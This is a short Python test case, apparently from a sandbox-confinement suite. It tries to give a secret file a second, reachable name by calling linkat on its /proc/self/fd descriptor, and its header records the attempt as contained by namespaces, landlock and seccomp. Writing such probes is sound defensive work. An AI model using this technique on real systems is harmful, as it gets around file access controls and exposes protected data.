# attack: makes a hard link by a descriptor in /proc, to a file that it holds by path only
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock, seccomp
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, AT_SYMLINK_FOLLOW = -100, 0x400


def attack():
    held = os.open(SECRET, os.O_PATH)
    old, new = f"/proc/self/fd/{held}".encode(), os.path.join(WRITABLE, "mine.txt").encode()
    if libc.linkat(AT_FDCWD, old, AT_FDCWD, new, AT_SYMLINK_FOLLOW) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "through: it has two names"
